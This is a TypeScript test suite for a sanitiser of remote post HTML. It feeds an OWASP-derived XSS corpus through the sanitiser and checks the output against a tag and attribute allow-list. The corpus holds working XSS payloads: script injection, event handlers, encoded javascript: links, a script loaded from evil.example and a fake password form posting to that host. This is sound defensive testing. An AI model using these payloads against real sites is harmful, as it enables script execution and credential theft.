import assert from "node:assert/strict";
import { test } from "node:test";
import { htmlToPlainText, LINK_REL, safeHttpUrl, sanitizeRemoteHtml } from "./sanitize.ts";

/**
 * Attacks seen in the wild and in the OWASP XSS filter evasion cheat sheet, each as a remote post
 * might carry it. Every output must stay inside the allow-list (checked structurally below), and
 * sanitising must be a fixed point.
 */
const XSS_CORPUS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<<script>script>alert(1)<</script>/script>",
  '<img src=x onerror="alert(1)">',
  "<img src=x onerror=alert(1)//",
  '<svg onload="alert(1)"><circle r="1"/></svg>',
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="  javascript:alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  '<a href="jav&#x0A;ascript:alert(1)">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="//evil.example/">protocol-relative</a>',
  '<a href="/relative">relative</a>',
  '<a href="https://ok.example/" onclick="alert(1)" onmouseover="alert(1)">ok</a>',
  '<a href="https://ok.example/" style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</a>',
  '<p style="background:url(javascript:alert(1))">css</p>',
  "<style>body{background:url('javascript:alert(1)')}</style>text",
  '<div style="width: expression(alert(1))">ie</div>',
  "<link rel=stylesheet href=https://evil.example/x.css>",
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><input name="password"><button>Log in</button></form>',
  "<form><form><input></form></form>nested",
  "<textarea><script>alert(1)</script></textarea>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<template><script>alert(1)</script></template>",
  "<!--<script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  '<p title="x" onclick="alert(1)">attrs</p>',
  '<span class="h-card evil" data-x="1" id="main">span</span>',
  '<p><b>unclosed <i>nesting <a href="https://ok.example/">link',
  "</p></div></span>stray closers",
  '<a href="https://ok.example/"><a href="javascript:alert(1)">inner</a></a>',
  '<img src="x" alt="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">',
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&amp;lt;script&amp;gt;",
  '<a href="https://user:pass@bank.example@evil.example/">login</a>',
  "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
  "<details open ontoggle=alert(1)>",
  '<marquee onstart="alert(1)">m</marquee>',
  "<isindex type=image src=1 onerror=alert(1)>",
  '<input autofocus onfocus="alert(1)">',
  "<body onload=alert(1)>",
  "<xmp><script>alert(1)</script></xmp>",
  "<plaintext><script>alert(1)</script>",
  '<a href="https://ok.example/" target="_self" rel="opener">rel</a>',
  "<p>\u0000null\u0000byte</p>",
];

const ALLOWED = new Set([
  "p",
  "br",
  "a",
  "span",
  "strong",
  "b",
  "em",
  "i",
  "u",
  "s",
  "del",
  "code",
  "pre",
  "blockquote",
  "ul",
  "ol",
  "li",
]);
const CLASSES = new Set(["h-card", "u-url", "mention", "hashtag", "invisible", "ellipsis"]);

/** Fails unless every tag and attribute of `html` (our output) is inside the allow-list. */
function assertInsideAllowList(html: string, input: string): void {
  for (const m of html.matchAll(/<\/?([a-zA-Z0-9]+)([^>]*)>/g)) {
    const [, tag, rest] = m as unknown as [string, string, string];
    assert.ok(ALLOWED.has(tag), `tag <${tag}> from ${input}`);
    const attrs = [...rest.matchAll(/([a-zA-Z-:]+)="([^"]*)"/g)].map((a) => [a[1], a[2]] as const);
    const stripped = rest.replace(/([a-zA-Z-:]+)="([^"]*)"/g, "").replace(/\s*\/?$/, "");
    assert.equal(stripped.trim(), "", `unparsed attribute text in ${m[0]} from ${input}`);
    for (const [name, value] of attrs) {
      if (tag === "a" && name === "href") {
        assert.match(value, /^https?:\/\//, `href from ${input}`);
        assert.equal(safeHttpUrl(value.replace(/&amp;/g, "&")), value.replace(/&amp;/g, "&"));
      } else if (tag === "a" && name === "rel") assert.equal(value, LINK_REL);
      else if (tag === "a" && name === "target") assert.equal(value, "_blank");
      else if (name === "class") {
        for (const c of value.split(" ")) assert.ok(CLASSES.has(c), `class ${c} from ${input}`);
      } else assert.fail(`attribute ${name} on <${tag}> from ${input}`);
    }
  }
  assert.doesNotMatch(html, /javascript:|vbscript:|data:/i, input);
}

test("the XSS corpus: nothing outside the allow-list survives, and sanitising is a fixed point", () => {
  for (const input of XSS_CORPUS) {
    const out = sanitizeRemoteHtml(input);
    assertInsideAllowList(out, input);
    assert.equal(sanitizeRemoteHtml(out), out, `not idempotent: ${input}`);
    // the text of what is shown is the text of what was sent: dropped elements add nothing
    assert.equal(htmlToPlainText(out), htmlToPlainText(input), input);
  }
});

test("dropped elements lose their content, unknown ones are unwrapped", () => {
  assert.equal(sanitizeRemoteHtml("<p>a<script>alert(1)</script>b</p>"), "<p>ab</p>");
  assert.equal(sanitizeRemoteHtml("<style>p{}</style><div>kept <section>text</section></div>"), "kept text");
  assert.equal(sanitizeRemoteHtml("<svg><text>drawn</text></svg>after"), "after");
  assert.equal(sanitizeRemoteHtml('<img src="x.png" alt="a cat">'), "");
  assert.equal(sanitizeRemoteHtml("<h1>Title</h1><table><tr><td>cell</td></tr></table>"), "Titlecell");
});

test("links: absolute http(s) only, normalised, new tab without opener or referrer", () => {
  assert.equal(
    sanitizeRemoteHtml('<a href="https://ok.example/a b" target="_self" rel="me" title="t">x</a>'),
    `<a href="https://ok.example/a%20b" rel="${LINK_REL}" target="_blank">x</a>`,
  );
  // an unsafe link keeps its text, as plain text
  assert.equal(sanitizeRemoteHtml('<a href="javascript:alert(1)">click</a>'), "<span>click</span>");
  assert.equal(sanitizeRemoteHtml('<a href="/tags/x">#x</a>'), "<span>#x</span>");
  assert.equal(sanitizeRemoteHtml("<a>no href</a>"), "<span>no href</span>");
  assert.equal(sanitizeRemoteHtml('<a href="https://a@b.example/">x</a>'), "<span>x</span>");
  assert.equal(safeHttpUrl("HTTPS://Ok.Example"), "https://ok.example/");
  assert.equal(safeHttpUrl("ftp://ok.example/"), null);
});

test("Mastodon's markup of mentions, hashtags and long links is kept as it was", () => {
  const mastodon =
    '<p><span class="h-card" translate="no"><a href="https://mastodon.example/@alice" class="u-url mention">@<span>alice</span></a></span> see ' +
    '<a href="https://mastodon.example/tags/qazaq" class="mention hashtag" rel="tag">#<span>qazaq</span></a> ' +
    '<a href="https://example.com/a/very/long/path/that/is/cut" target="_blank" rel="nofollow noopener noreferrer"><span class="invisible">https://</span><span class="ellipsis">example.com/a/very/long/path/</span><span class="invisible">that/is/cut</span></a></p>';
  const out = sanitizeRemoteHtml(mastodon);
  assert.equal(
    out,
    `<p><span class="h-card"><a href="https://mastodon.example/@alice" rel="${LINK_REL}" target="_blank" class="u-url mention">@<span>alice</span></a></span> see ` +
      `<a href="https://mastodon.example/tags/qazaq" rel="${LINK_REL}" target="_blank" class="mention hashtag">#<span>qazaq</span></a> ` +
      `<a href="https://example.com/a/very/long/path/that/is/cut" rel="${LINK_REL}" target="_blank"><span class="invisible">https://</span><span class="ellipsis">example.com/a/very/long/path/</span><span class="invisible">that/is/cut</span></a></p>`,
  );
  assert.equal(sanitizeRemoteHtml(out), out);
  assert.equal(
    htmlToPlainText(mastodon),
    "@alice see #qazaq https://example.com/a/very/long/path/that/is/cut",
  );
});

test("formatting the allow-list names is kept; entities stay escaped", () => {
  const rich =
    "<p><strong>s</strong> <b>b</b> <em>e</em> <i>i</i> <u>u</u> <s>s</s> <del>d</del> <code>c</code></p>" +
    "<pre><code>x &lt; y</code></pre><blockquote><p>q</p></blockquote><ul><li>one</li></ul><ol><li>two</li></ol>";
  assert.equal(sanitizeRemoteHtml(rich), rich);
  assert.equal(sanitizeRemoteHtml("&lt;script&gt;"), "&lt;script&gt;");
  assert.equal(sanitizeRemoteHtml("<p>Tom &amp; Jerry</p>"), "<p>Tom &amp; Jerry</p>");
  assert.equal(sanitizeRemoteHtml("<p>unclosed <b>bold"), "<p>unclosed <b>bold</b></p>");
});

test("plain text: paragraphs and line breaks become newlines, entities are decoded, hidden content never appears", () => {
  assert.equal(
    htmlToPlainText("<p>Сәлем<br>әлем</p><p>екінші &amp; &lt;b&gt;</p>"),
    "Сәлем\nәлем\n\nекінші & <b>",
  );
  assert.equal(htmlToPlainText("<p>a</p><script>secret()</script><style>.x{}</style><p>b</p>"), "a\n\nb");
  assert.equal(htmlToPlainText("CW: <b>spoilers</b> &quot;here&quot;"), 'CW: spoilers "here"');
  assert.equal(htmlToPlainText("plain text, no markup"), "plain text, no markup");
  assert.equal(htmlToPlainText(""), "");
});
